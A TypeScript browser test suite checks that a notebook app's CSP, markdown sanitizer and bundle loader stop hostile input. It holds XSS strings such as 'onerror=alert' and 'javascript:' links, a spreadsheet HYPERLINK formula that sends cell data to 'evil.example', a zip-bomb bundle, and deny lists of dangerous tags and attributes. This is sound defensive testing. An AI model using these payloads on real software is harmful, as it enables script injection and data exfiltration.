/**
 * A shared notebook is untrusted input (issue 10, items 2, 3 and 7; docs/security.md). The built app is
 * served here by a plain static server that sends NO header, so the `<meta>` Content-Security-Policy
 * in index.html is all the browser gets, as on an ordinary static host. With every request recorded:
 * the prose sanitizer against the hostile corpus (tests/fixtures/hostile/web/prose.json), a hostile
 * notebook opened and run (nothing to other origins, no script, nothing over "Run all"), and hostile
 * bundles (a zip bomb, a dataset that is not Parquet) opened off the main thread and refused.
 */
import { readFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { CSP, headersFile } from '../../src/pwa/csp';
import { engineReady } from './support/browser';
import { download } from './support/ui';
import { bombEntries, buildZip, deflatedEntry, storedEntry } from '../share/hostileZip';

const prose: { id: string; source: string; markdown: string }[] = JSON.parse(readFileSync(new URL('../fixtures/hostile/web/prose.json', import.meta.url), 'utf8'));

interface Session {
  browser: Browser;
  context: BrowserContext;
  page: Page;
  origin: string;
  requests: string[];
  /** Requests the page's CSP refused before they reached the network (Chromium still reports them). */
  blockedByCsp: Set<string>;
  dialogs: string[];
  violations: string[];
  popups: string[];
}

let s: Session;

beforeAll(async () => {
  const bareURL = inject('bareURL');
  const browser = await chromium.connect(inject('wsEndpoint'));
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const requests: string[] = [];
  const dialogs: string[] = [];
  const violations: string[] = [];
  const popups: string[] = [];
  const blockedByCsp = new Set<string>();
  context.on('request', (r) => requests.push(r.url()));

  context.on('page', (p) => popups.push(p.url()));
  const page = await context.newPage();
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.warn(`CSP ${e.violatedDirective} blocked ${e.blockedURI}`));
  });
  page.on('console', (m) => {
    if (m.type() !== 'warning' || !m.text().startsWith('CSP ')) return;
    violations.push(m.text());
    const uri = / blocked (\S+)$/.exec(m.text())?.[1];
    if (uri) blockedByCsp.add(uri);
  });
  await page.goto(bareURL + '/');
  popups.length = 0; // the first page itself
  s = { browser, context, page, origin: new URL(bareURL).origin, requests, blockedByCsp, dialogs, violations, popups };
});

afterAll(async () => {
  await s?.context.close();
  await s?.browser.close();
});

/** Requests to other origins that were not refused by the CSP (the egress proxy refuses and records any that leave). */
const foreign = () => s.requests.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== s.origin && !s.blockedByCsp.has(u));

describe('served with no security header, the built app carries its own policy', () => {
  it('index.html has the CSP right after <meta charset>, before anything loads, equal to the header policy minus frame-ancestors', async () => {
    const res = await fetch(inject('bareURL') + '/');
    expect(res.headers.get('content-security-policy')).toBeNull();
    const html = await res.text();
    const head = /<head>\s*([\s\S]*?)<\/head>/.exec(html)![1]!;
    const tags = [...head.matchAll(/<(meta|link|script|style|title)\b[^>]*>/g)].map((m) => m[0]);
    expect(tags.slice(0, 3)).toEqual(['<meta charset="UTF-8" />', `<meta http-equiv="Content-Security-Policy" content="${CSP}">`, '<meta name="referrer" content="no-referrer">']);
    expect(await (await fetch(inject('bareURL') + '/_headers')).text()).toBe(headersFile());
  });

  it('under the meta policy alone the DuckDB worker compiles its wasm and answers, and the service worker installs', async () => {
    const info = await engineReady(s.page);
    expect(info.duckdbVersion).toMatch(/^v1\.4\./);
    const answer = await s.page.evaluate(async () => {
      const w = globalThis as unknown as { __pulse: { client: { call<T>(f: (api: { query(sql: string): Promise<{ rowCount: number }> }) => Promise<T>): Promise<T> } } };
      return w.__pulse.client.call((api) => api.query('SELECT 42 AS x'));
    }).catch((e: unknown) => String(e));
    expect(answer).toMatchObject({ rowCount: 1 });
    const sw = await s.page.evaluate(async () => (await Promise.race([navigator.serviceWorker.ready.then((r) => r.active?.scriptURL ?? 'no active worker'), new Promise((ok) => setTimeout(() => ok('timeout'), 30_000))])) as string);
    expect(sw).toBe(`${s.origin}/sw.js`);
    // worker-src allows blob: workers (a library may start one) and they inherit the page's policy.
    const blobWorker = await s.page.evaluate(
      () =>
        new Promise<string>((ok) => {
          const url = URL.createObjectURL(new Blob(['postMessage(6 * 7)'], { type: 'text/javascript' }));
          const w = new Worker(url);
          w.onmessage = (e) => ok(String(e.data));
          w.onerror = (e) => ok(`error: ${e.message}`);
        }),
    );
    expect(blobWorker).toBe('42');
  });

  it('the meta policy blocks a remote image and an inline script injected past the sanitizer', async () => {
    const blocked = await s.page.evaluate(async () => {
      const seen: string[] = [];
      const listen = (e: SecurityPolicyViolationEvent) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`);
      document.addEventListener('securitypolicyviolation', listen);
      const img = document.createElement('img');
      img.src = 'https://tracker.example/csp-probe.png';
      document.body.append(img);
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      await new Promise((ok) => setTimeout(ok, 300));
      img.remove();
      script.remove();
      document.removeEventListener('securitypolicyviolation', listen);
      return { seen, ran: (globalThis as { __inlineRan?: boolean }).__inlineRan ?? false };
    });
    expect(blocked.ran).toBe(false);
    expect(blocked.seen).toEqual(expect.arrayContaining(['img-src https://tracker.example/csp-probe.png', 'script-src-elem inline']));
    await expect.poll(() => s.blockedByCsp.has('https://tracker.example/csp-probe.png')).toBe(true);
    expect(foreign()).toEqual([]);
  });
});

describe('the prose sanitizer in Chromium, against the hostile corpus', () => {
  /** Everything that is wrong with the sanitized HTML of each payload (none expected). */
  it('drops scripts, handlers, remote resources, styles, forms and unsafe links from every payload', async () => {
    const problems = await s.page.evaluate(async (corpus) => {
      const { sanitizedMarkdown } = await (globalThis as unknown as { __pulse: { sanitize(): Promise<{ sanitizedMarkdown(t: string): string }> } }).__pulse.sanitize();
      const forbidden = new Set(['SCRIPT', 'STYLE', 'LINK', 'META', 'BASE', 'PICTURE', 'SOURCE', 'VIDEO', 'AUDIO', 'TRACK', 'OBJECT', 'EMBED', 'IFRAME', 'FRAME', 'FRAMESET', 'FORM', 'INPUT', 'BUTTON', 'SELECT', 'TEXTAREA', 'LABEL', 'DIALOG', 'TEMPLATE', 'SVG', 'MATH', 'IMAGE', 'BGSOUND', 'NOSCRIPT']);
      const out: string[] = [];
      for (const p of corpus) {
        const html = sanitizedMarkdown(p.markdown);
        const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
        for (const el of doc.body.querySelectorAll('*')) {
          const where = `${p.id}: <${el.tagName.toLowerCase()}>`;
          if (forbidden.has(el.tagName.toUpperCase())) out.push(`${where} kept`);
          for (const a of el.attributes) {
            if (/^on/i.test(a.name)) out.push(`${where} keeps ${a.name}`);
            if (['style', 'srcset', 'background', 'poster', 'ping', 'action', 'formaction', 'popover'].includes(a.name)) out.push(`${where} keeps ${a.name}`);
            if (a.name === 'class' && !a.value.split(/\s+/).every((c) => /^(language-[\w-]+|link-host|image-not-loaded)$/.test(c))) out.push(`${where} keeps class ${a.value}`);
            if (/url\(/i.test(a.value)) out.push(`${where} keeps url() in ${a.name}`);
          }
          if (el.tagName === 'IMG' && !/^(blob:|data:image\/(png|jpeg|gif|webp|avif);base64,)/i.test(el.getAttribute('src') ?? '')) out.push(`${where} loads ${el.getAttribute('src')}`);
          if (el.tagName === 'A') {
            const href = el.getAttribute('href');
            if (href === null) out.push(`${where} without href survived`);
            else {
              const url = new URL(href, location.href);
              if (!['http:', 'https:', 'mailto:'].includes(url.protocol)) out.push(`${where} links to ${url.protocol}`);
              if (!href.startsWith('#') && (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')) out.push(`${where} opens without target/rel`);
              if (url.origin !== location.origin && url.protocol !== 'mailto:' && !el.textContent!.includes(url.host)) out.push(`${where} hides its host ${url.host}`);
            }
          }
        }
      }
      return out;
    }, prose);
    expect(problems).toEqual([]);
  });

  it('keeps ordinary prose: headings, emphasis, code with its language, task boxes as text, local images, and links that name their host', async () => {
    const html = await s.page.evaluate(async () => {
      const { sanitizedMarkdown } = await (globalThis as unknown as { __pulse: { sanitize(): Promise<{ sanitizedMarkdown(t: string): string }> } }).__pulse.sanitize();
      return sanitizedMarkdown(
        '## Notes\n\nRead *the* [docs](https://duckdb.org/docs/) or [below](#checks).\n\n- [x] done\n- [ ] todo\n\n```sql\nSELECT 1\n```\n\n![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
      );
    });
    expect(html).toContain('<h2>Notes</h2>');
    expect(html).toContain('<em>the</em>');
    expect(html).toContain('<a href="https://duckdb.org/docs/" target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer" title="https://duckdb.org/docs/ (opens duckdb.org in a new tab)">docs<span class="link-host"> (duckdb.org ↗)</span></a>');
    expect(html).toContain('<a href="#checks">below</a>');
    expect(html).toMatch(/<li>☑ done<\/li>\s*<li>☐ todo<\/li>/);
    expect(html).toContain('<code class="language-sql">SELECT 1');
    expect(html).toContain('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="dot">');
  });
});

/** The hostile notebook: every prose payload as its own block, and a result whose names and values are payloads too. */
const HOSTILE_NOTEBOOK = `---
pulse: 1
title: Hostile prose
---

${prose.map((p) => p.markdown).join('\n\n')}

\`\`\`sql payloads
SELECT '<img src=x onerror=alert(1)>' AS "<img src=y onerror=alert(2)>", '[x](javascript:alert(3))' AS link,
  '=HYPERLINK("https://evil.example/?"&A1,"Click")' AS comment, -12.5 AS amount
\`\`\`
`;

describe('a hostile notebook in the app', () => {
  it('opens and runs with no request to another origin, no script, no dialog, nothing covering "Run all"', async () => {
    await s.page.goto(`${s.origin}/#/`);
    await s.page.getByTestId('open-file').setInputFiles({ name: 'hostile.pulse.md', mimeType: 'text/markdown', buffer: Buffer.from(HOSTILE_NOTEBOOK) });
    await s.page.locator('h1', { hasText: 'Hostile prose' }).waitFor();
    await expect.poll(() => s.page.getByTestId('prose').count()).toBeGreaterThan(0);
    const runAll = s.page.getByTestId('run-all');
    await expect.poll(() => runAll.isEnabled(), { timeout: 30_000 }).toBe(true);
    // Whatever prose holds, the point at the middle of "Run all" is "Run all".
    const hit = await runAll.evaluate((button) => {
      const r = button.getBoundingClientRect();
      const el = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
      return el === button || button.contains(el) ? 'run-all' : (el?.outerHTML.slice(0, 200) ?? 'nothing');
    });
    expect(hit).toBe('run-all');
    const layout = await s.page.evaluate(() => {
      const out: string[] = [];
      for (const box of document.querySelectorAll('[data-testid="prose"]')) {
        const outer = box.getBoundingClientRect();
        for (const el of box.querySelectorAll('*')) {
          const cs = getComputedStyle(el);
          if (['fixed', 'absolute', 'sticky'].includes(cs.position)) out.push(`${el.tagName} is ${cs.position}`);
          const r = el.getBoundingClientRect();
          if (r.width > 0 && (r.left < outer.left - 1 || r.top < outer.top - 1 || r.bottom > outer.bottom + 1)) out.push(`${el.tagName} outside its prose box`);
        }
        if (box.querySelector('form, input, button, select, textarea, iframe, object, embed, video, audio, style, link, meta, svg')) out.push('a forbidden element in prose');
      }
      return out;
    });
    expect(layout).toEqual([]);

    await runAll.click();
    const cell = s.page.locator('[data-testid="cell"][data-cell-id="payloads"]');
    await expect.poll(() => cell.getAttribute('data-status'), { timeout: 30_000 }).toBe('ok');
    expect(await cell.textContent()).toContain('<img src=x onerror=alert(1)>');
    // CSV downloads through the worker (item 6): the formula is text to a spreadsheet, the number stays a number; raw keeps it.
    const csv = await download(s.page, () => cell.getByTestId('download-csv').click());
    expect(csv.text).toBe('<img src=y onerror=alert(2)>,link,comment,amount\r\n<img src=x onerror=alert(1)>,[x](javascript:alert(3)),"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n');
    const raw = await download(s.page, () => cell.getByTestId('download-csv-raw').click());
    expect(raw.name).toBe('payloads.raw.csv');
    expect(raw.text).toBe('<img src=y onerror=alert(2)>,link,comment,amount\r\n<img src=x onerror=alert(1)>,[x](javascript:alert(3)),"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n');
    // Links are not clicked here (a new tab would ask the egress proxy for their hosts); the sanitizer
    // test above checks every one opens in a new tab, without opener or referrer, naming its host.
    expect(s.page.url()).toContain('#/nb/');
    expect(s.popups).toEqual([]);
    expect(s.dialogs).toEqual([]);
    expect(foreign()).toEqual([]);
    // Nothing in the prose even tried: the sanitizer removed it before the policy had to. The one
    // exception is DOMPurify's own parse: its inert DOMParser document carries the page's policy, which
    // refuses the payload's <base href> there; that element never reaches the page (the corpus test
    // above finds no <base> in any output).
    expect(s.violations.filter((v) => !/blocked eval/.test(v) && !/csp-probe|inline$/.test(v) && v !== 'CSP base-uri blocked https://tracker.example/')).toEqual([]);
  });
});

describe('a hostile notebook reopened', () => {
  it('its kept first screen, drawn before the app loads, holds no handler, script, frame or remote resource, and runs nothing', async () => {
    // The notebook of the test above, run: leaving it keeps its first screen for the next visit.
    expect(s.page.url()).toContain('#/nb/');
    const address = s.page.url();
    await s.page.goto(`${s.origin}/#/`);
    const html = await s.page.evaluate(() => Object.entries(localStorage).find(([k, v]) => k.startsWith('pulse.firstScreen.') && v.includes('Hostile prose'))?.[1] ?? '');
    expect(html).not.toBe('');
    const problems = await s.page.evaluate((raw) => {
      const doc = new DOMParser().parseFromString((JSON.parse(raw) as { html: string }).html, 'text/html');
      const out: string[] = [];
      for (const el of doc.body.querySelectorAll('*')) {
        if (/^(script|iframe|frame|object|embed|base|link|meta|form|portal)$/i.test(el.tagName)) out.push(`<${el.tagName}>`);
        for (const a of el.attributes) {
          if (/^on/i.test(a.name)) out.push(`${el.tagName} ${a.name}`);
          // Links to other hosts are prose's own (they open in a new tab, naming the host); nothing may load from one or run.
          if (/^(src|srcset|xlink:href|action|formaction|poster|background|data)$/i.test(a.name) && /^\s*(javascript:|https?:|\/\/|data:text)/i.test(a.value)) out.push(`${el.tagName} ${a.name}=${a.value}`);
          if (/^(href|xlink:href)$/i.test(a.name) && /^\s*(javascript|vbscript|data):/i.test(a.value)) out.push(`${el.tagName} ${a.name}=${a.value}`);
        }
      }
      return out;
    }, html);
    expect(problems).toEqual([]);
    // Drawn on the next visit: no dialog, no popup, nothing fetched from elsewhere, no policy had to block a script.
    await s.page.goto(address);
    await s.page.reload();
    await s.page.locator('h1', { hasText: 'Hostile prose' }).waitFor();
    expect(s.dialogs).toEqual([]);
    expect(s.popups).toEqual([]);
    expect(foreign()).toEqual([]);
    expect(s.violations.filter((v) => !/blocked eval/.test(v) && !/csp-probe|inline$/.test(v) && v !== 'CSP base-uri blocked https://tracker.example/')).toEqual([]);
  });
});

describe('hostile bundles in the app', () => {
  async function genuineBundle(): Promise<Record<string, Uint8Array>> {
    // A real bundle made by the app's own code path would need a loaded dataset; the unit tests cover
    // that. Here the files are written the way createBundle writes them.
    const enc = (t: string) => new TextEncoder().encode(t);
    const text = '---\npulse: 1\ntitle: Shared bundle\n---\n\n```sql one\nSELECT 1 AS x\n```\n';
    const csv = enc('id,name\n1,Ann\n');
    const { createHash } = await import('node:crypto');
    const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
    const manifest = {
      format: 'pulse-bundle',
      formatVersion: 1,
      createdAt: '2026-12-01T00:00:00.000Z',
      notebook: { path: 'notebook.pulse.md', title: 'Shared bundle', size: enc(text).length, sha256: sha(enc(text)) },
      datasets: [{ name: 'ads', path: 'datasets/ads.parquet', fileName: 'ads.csv', format: 'parquet', schema: { columns: [{ name: 'id', type: 'BIGINT' }] }, rowCount: 1, size: csv.length, sha256: sha(csv) }],
    };
    return { 'manifest.json': enc(JSON.stringify(manifest)), 'notebook.pulse.md': enc(text), 'datasets/ads.parquet': csv };
  }

  /** Open a file through "Open…"; `ms` runs from the input's change event to the message, in the page. */
  async function openBytes(name: string, bytes: Uint8Array): Promise<{ message: string; ms: number; longestFrameGapMs: number }> {
    await s.page.goto(`${s.origin}/#/`);
    await s.page.evaluate(() => {
      const w = globalThis as unknown as { __gaps: [number, number][]; __last: number; __changedAt: number; __shownAt: number };
      document.querySelector('[data-testid="open-file"]')!.addEventListener('change', () => (w.__changedAt = performance.now()), { capture: true });
      new MutationObserver((_, obs) => {
        if (document.querySelector('[data-testid="open-error"]')) {
          w.__shownAt = performance.now();
          obs.disconnect();
        }
      }).observe(document.body, { childList: true, subtree: true });
      w.__gaps = [];
      w.__last = performance.now();
      const tick = () => {
        const now = performance.now();
        w.__gaps.push([now, now - w.__last]);
        w.__last = now;
        setTimeout(tick, 20);
      };
      tick();
    });
    await s.page.getByTestId('open-file').setInputFiles({ name, mimeType: 'application/zip', buffer: Buffer.from(bytes) });
    const banner = s.page.getByTestId('open-error');
    await banner.waitFor({ timeout: 20_000 });
    const { ms, longestFrameGapMs } = await s.page.evaluate(() => {
      const w = globalThis as unknown as { __gaps: [number, number][]; __changedAt: number; __shownAt: number };
      // Ticks from the pick to the message (before it, the test harness is still handing the file over).
      const during = w.__gaps.map(([at, gap]) => Math.min(at, w.__shownAt) - Math.max(at - gap, w.__changedAt));
      return { ms: w.__shownAt - w.__changedAt, longestFrameGapMs: Math.max(0, ...during) };
    });
    console.log(`[security] ${name}: refused ${Math.round(ms)} ms after the file was picked; longest main-thread gap ${Math.round(longestFrameGapMs)} ms`);
    return { message: (await banner.textContent()) ?? '', ms, longestFrameGapMs };
  }

  it('a 3.9 MB zip bomb (3.75 GiB of unlisted entries) is refused from its index, unread, the page responsive throughout', async () => {
    const files = await genuineBundle();
    const bomb = buildZip([...Object.entries(files).map(([n, d]) => deflatedEntry(n, d)), ...bombEntries(960)]);
    expect(bomb.length).toBeLessThan(4.5e6);
    const r = await openBytes('bomb.pulse.zip', bomb);
    // Refused from the zip's index, before any entry is inflated: only that path names the unlisted files
    // (tests/share cover it in Node). No time budget here: speed lives in benchmarks, and a loaded machine
    // moved this one from 1 s to 9 s while the refusal stayed the same.
    expect(r.message).toContain('bomb.pulse.zip holds 960 files its manifest does not list');
    // The main thread never stalled: the bundle was read in its worker.
    expect(r.longestFrameGapMs).toBeLessThan(1000);
    const heap = await s.page.evaluate(() => (performance as unknown as { memory?: { usedJSHeapSize: number } }).memory?.usedJSHeapSize ?? 0);
    expect(heap).toBeLessThan(512 * 1024 * 1024);
  });

  it('a bundle whose dataset is a CSV, not Parquet, is refused and nothing is stored (no silent fallback to the sample)', async () => {
    const files = await genuineBundle();
    const zip = buildZip(Object.entries(files).map(([n, d]) => (n.endsWith('.parquet') ? storedEntry(n, d) : deflatedEntry(n, d))));
    expect(Object.keys(unzipSync(zip)).sort()).toEqual(['datasets/ads.parquet', 'manifest.json', 'notebook.pulse.md']);
    const r = await openBytes('csv-inside.pulse.zip', zip);
    expect(r.message).toContain('Dataset ads (datasets/ads.parquet) in this bundle is not a Parquet file (it starts with "id,name\\n1,Ann\\n")');
    expect(r.message).toContain('Nothing was stored.');
    const stored = await s.page.evaluate(async () => {
      const db = await new Promise<IDBDatabase>((ok, fail) => {
        const req = indexedDB.open('pulse');
        req.onsuccess = () => ok(req.result);
        req.onerror = () => fail(req.error);
      });
      const all = (store: string) => new Promise<unknown[]>((ok) => {
        const req = db.transaction(store).objectStore(store).getAll();
        req.onsuccess = () => ok(req.result);
      });
      const out = { datasets: (await all('datasets')).length, notebooks: (await all('notebooks')).map((n) => (n as { title?: string }).title) };
      db.close();
      return out;
    });
    expect(stored.datasets).toBe(0);
    expect(stored.notebooks).not.toContain('Shared bundle');
  });
});
